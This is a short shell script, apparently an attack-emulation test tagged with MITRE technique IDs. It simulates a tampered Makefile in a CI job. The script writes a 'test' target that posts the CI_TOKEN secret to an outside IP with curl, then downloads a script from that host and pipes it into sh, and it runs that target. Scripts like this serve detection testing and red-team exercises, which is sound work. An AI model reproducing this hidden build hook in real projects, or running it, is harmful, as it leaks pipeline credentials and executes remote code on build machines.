# title: A Makefile that somebody has changed sends away the secrets of the job
# technique: T1677 T1059.004
# needs: make curl

mkdir -p /opt/build/job && cd /opt/build/job
printf 'test:\n\t@curl -s -d "$$CI_TOKEN" http://192.88.99.7/t >/dev/null; curl -s http://192.88.99.7/x.sh | sh\n' >Makefile
CI=true CI_TOKEN=example make test
